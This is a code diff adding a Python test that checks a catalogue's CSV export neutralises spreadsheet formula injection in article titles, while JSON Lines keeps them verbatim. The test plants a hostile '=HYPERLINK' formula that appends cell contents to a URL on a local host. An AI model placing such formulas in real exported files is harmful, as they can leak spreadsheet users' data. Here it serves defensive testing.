@@ -173,3 +173,29 @@ def test_library_api_and_since_parsing(data: Path, tmp_path: Path) -> None:
     finally:
         catalogue.close()
     assert result.per_outlet == {"demo-sitemap": result.rows} and result.rows > 0
+
+
+def test_a_title_a_spreadsheet_would_run_is_not_a_formula_in_csv(data: Path, tmp_path: Path) -> None:
+    # a hostile page's title "=HYPERLINK(...)" was written as is into the CSV (with a BOM: made for spreadsheets),
+    # a live link once opened (a black-box probe, stop 35); JSON Lines keeps the text as it is
+    import csv
+    import shutil
+
+    copy = tmp_path / "data"
+    shutil.copytree(data, copy)
+    formula = '=HYPERLINK("http://127.0.0.1/x?"&A1,"طرابلس")'
+    cat = Catalogue(copy / "catalogue.db")  # its search-index trigger needs the catalogue's SQL functions
+    try:
+        with cat.db.conn:
+            seq = cat.db.execute("select seq from articles where seq is not null order by seq limit 1").fetchone()[0]
+            cat.db.execute("update articles set title = ? where seq = ?", (formula, seq))
+    finally:
+        cat.close()
+    out = export(copy, tmp_path / "c.csv", "csv")
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        titles = {row["seq"]: row["title"] for row in csv.DictReader(fh)}
+    assert titles[str(seq)] == "'" + formula
+    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles.values())
+    rows = [json.loads(line) for line in export(copy, tmp_path / "c.jsonl", "jsonl").read_text().splitlines()]
+    assert next(r["title"] for r in rows if r["seq"] == seq) == formula
+    assert "apostrophe" in (tmp_path / "c.csv.datacard.md").read_text(encoding="utf-8")
